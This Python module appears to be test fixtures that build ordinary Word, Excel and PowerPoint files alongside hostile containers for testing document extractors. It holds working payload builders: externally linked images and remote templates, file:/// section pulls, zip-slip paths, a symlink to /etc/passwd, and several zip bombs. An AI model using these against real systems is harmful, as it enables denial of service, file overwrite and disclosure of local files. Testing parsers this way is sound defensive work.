"""Office files: readable ones, and containers written to reach out, break out or blow up."""

import io
import stat
import struct
import zipfile
from collections.abc import Callable, Mapping, Sequence

import docx as word
import openpyxl  # type: ignore[import-untyped]
import pptx as powerpoint

MEBIBYTE = 1 << 20
DRAWINGS = "http://schemas.openxmlformats.org/drawingml/2006"
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
Rows = Sequence[Sequence[str | int | float]]


def docx(
    heading: str = "A test document",
    paragraphs: Sequence[str] = ("One paragraph of text.",),
    table: Sequence[Sequence[str]] = (("part", "count"), ("lamp", "2")),
) -> bytes:
    """A Word document: a first-level heading, the paragraphs, then the table (rows of equal length)."""
    document = word.Document()
    document.add_heading(heading, level=1)
    for paragraph in paragraphs:
        document.add_paragraph(paragraph)
    if table:
        grid = document.add_table(rows=0, cols=len(table[0]))
        for row in table:
            for cell, value in zip(grid.add_row().cells, row, strict=True):
                cell.text = value
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def xlsx(sheets: Mapping[str, Rows] | None = None) -> bytes:
    """An Excel workbook with one sheet for each name, filled from its first cell."""
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, rows in (sheets or {"Parts": [("part", "count"), ("lamp", 2)]}).items():
        sheet = book.create_sheet(name)
        for row in rows:
            sheet.append(list(row))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def pptx(slides: Sequence[tuple[str, str]] = (("A title", "A line of text."),)) -> bytes:
    """A PowerPoint deck with one slide for each (title, body)."""
    deck = powerpoint.Presentation()
    for title, body in slides:
        slide = deck.slides.add_slide(deck.slide_layouts[1])
        for placeholder, text in zip(slide.placeholders, (title, body), strict=True):
            placeholder.text = text
    out = io.BytesIO()
    deck.save(out)
    return out.getvalue()


def docx_with_external_image(url: str) -> bytes:
    """A Word document with a picture linked, not embedded, from `url` (http, file or a network share).

    Attacks a renderer that fetches it: the server learns who opened the document, or a local file enters it.
    """
    picture = f"{DRAWINGS}/picture"
    drawing = (
        f'<w:p><w:r><w:drawing><wp:inline xmlns:wp="{DRAWINGS}/wordprocessingDrawing"><wp:extent cx="9525" cy="9525"/>'
        f'<wp:docPr id="1" name="remote"/><a:graphic xmlns:a="{DRAWINGS}/main"><a:graphicData uri="{picture}">'
        f'<pic:pic xmlns:pic="{picture}"><pic:nvPicPr><pic:cNvPr id="1" name="remote"/><pic:cNvPicPr/></pic:nvPicPr>'
        f'<pic:blipFill><a:blip xmlns:r="{RELATIONSHIPS}" r:link="rIdRemote"/><a:stretch><a:fillRect/></a:stretch>'
        '</pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="9525" cy="9525"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic>'
        "</wp:inline></w:drawing></w:r></w:p>"
    )
    return _edited(
        docx(),
        {
            "word/document.xml": lambda xml: xml.replace("<w:sectPr", drawing + "<w:sectPr", 1),
            "word/_rels/document.xml.rels": lambda xml: _relate(xml, "image", url),
        },
    )


def docx_with_remote_template(url: str) -> bytes:
    """A Word document attached to a template at `url`: attacks a renderer that loads it, and the macros within."""
    attached = f'<w:attachedTemplate r:id="rIdRemote" xmlns:r="{RELATIONSHIPS}"/>'
    relations = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    settings = "word/settings.xml"
    return _edited(
        docx(),
        {settings: lambda xml: xml.replace("<w:defaultTabStop ", attached + "<w:defaultTabStop ", 1)},
        {"word/_rels/settings.xml.rels": _relate(relations, "attachedTemplate", url).encode()},
    )


def fodt(text: str = "One paragraph of text.", section_from: str | None = None, image_from: str | None = None) -> bytes:
    """A flat OpenDocument text: `text`, then a section and a picture taken from the addresses given.

    With `section_from="file:///…"` it attacks a renderer that pulls that file's text into the document.
    """
    parts = [f"<text:p>{text}</text:p>"]
    if section_from:
        link = f'<text:section-source xlink:href="{section_from}" text:filter-name="Text"/>'
        parts.append(f'<text:section text:name="linked">{link}<text:p/></text:section>')
    if image_from:
        link = f'<draw:image xlink:href="{image_from}" xlink:type="simple" xlink:actuate="onLoad"/>'
        parts.append(f'<text:p><draw:frame svg:width="1cm" svg:height="1cm">{link}</draw:frame></text:p>')
    oasis = "urn:oasis:names:tc:opendocument:xmlns"
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        f'<office:document xmlns:office="{oasis}:office:1.0" xmlns:text="{oasis}:text:1.0"'
        f' xmlns:draw="{oasis}:drawing:1.0" xmlns:svg="{oasis}:svg-compatible:1.0"'
        ' xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3"'
        ' office:mimetype="application/vnd.oasis.opendocument.text">'
        f"<office:body><office:text>{''.join(parts)}</office:text></office:body></office:document>"
    ).encode()


def zip_slip_docx(victim: str = "quire-zip-slip.txt") -> bytes:
    """A readable Word document with two entries more: one named `../…/victim`, one named `/tmp/victim`.

    Attacks whoever unpacks the container by its names: the files land outside the folder meant for them.
    """
    return _edited(docx(), {}, {"../" * 8 + f"tmp/{victim}": b"outside", f"/tmp/{victim}": b"outside"})


def symlink_docx(target: str = "/etc/passwd") -> bytes:
    """A readable Word document with an entry that is a symbolic link to `target`.

    Attacks whoever unpacks the container: what is read or written through the link is the target.
    """
    link = zipfile.ZipInfo("word/media/image1.png")
    link.create_system = 3
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(link, target)
    return out.getvalue()


def swollen_docx(expands_to: int = 256 * MEBIBYTE) -> bytes:
    """A Word document whose text part grows a thousandfold to `expands_to` bytes of spaces when it is unpacked.

    Attacks an extractor that reads a part whole. `expands_to` is a multiple of a mebibyte.
    """
    source = io.BytesIO(docx())
    out = io.BytesIO()
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new:
        for name in old.namelist():
            if name != "word/document.xml":
                new.writestr(name, old.read(name))
        before, after = old.read("word/document.xml").split(b"<w:body>", 1)
        with new.open("word/document.xml", "w", force_zip64=True) as part:
            part.write(before + b'<w:body><w:p><w:r><w:t xml:space="preserve">')
            for _ in range(expands_to // MEBIBYTE):
                part.write(b" " * MEBIBYTE)
            part.write(b"</w:t></w:r></w:p>" + after)
    return out.getvalue()


def nested_zip_bomb(levels: int = 5, width: int = 10, leaf: int = MEBIBYTE) -> bytes:
    """A zip of `width` zips of … `width` leaves: `width ** levels * leaf` bytes (98 GiB) from a few kilobytes.

    Attacks an unpacker of nested archives that bounds each archive but not all of them together.
    """
    content, suffix = bytes(leaf), "bin"
    for _ in range(levels):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
            for number in range(width):
                archive.writestr(f"{number:03}.{suffix}", content)
        content, suffix = out.getvalue(), "zip"
    return content


def overlapping_zip_bomb(entries: int = 1000, kernel: int = 10 * MEBIBYTE) -> bytes:
    """A Word document in which `entries` names share the same `kernel` bytes of compressed data: 10 GiB from 100 KiB.

    Attacks an unpacker that trusts the ratio of each entry, or of the file, and never sees that entries overlap.
    """
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("word/media/0000.bin", bytes(kernel))
    data = out.getvalue()
    end = data.rindex(b"PK\x05\x06")
    directory = struct.unpack_from("<I", data, end + 16)[0]
    listed = data[directory:end]
    last = listed[listed.rindex(b"PK\x01\x02") :]
    count = struct.unpack_from("<H", data, end + 10)[0] + entries - 1
    listed += b"".join(last.replace(b"0000.bin", b"%04d.bin" % number) for number in range(1, entries))
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, len(listed), directory, 0)
    return data[:directory] + listed + tail


def _edited(
    container: bytes, edits: Mapping[str, Callable[[str], str]], additions: Mapping[str, bytes] | None = None
) -> bytes:
    """The container with the named XML parts rewritten and more entries at the end; an edit that fits nothing fails."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(container)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            content = old.read(name)
            if name in edits:
                edited = edits[name](content.decode()).encode()
                assert edited != content, f"the edit of {name} found nothing to change"
                content = edited
            new.writestr(name, content)
        for name, content in (additions or {}).items():
            new.writestr(name, content)
    return out.getvalue()


def _relate(xml: str, kind: str, url: str) -> str:
    """The relationships with one more, `rIdRemote`, that points outside the container."""
    relation = f'<Relationship Id="rIdRemote" Type="{RELATIONSHIPS}/{kind}" Target="{url}" TargetMode="External"/>'
    return xml.replace("</Relationships>", relation + "</Relationships>")
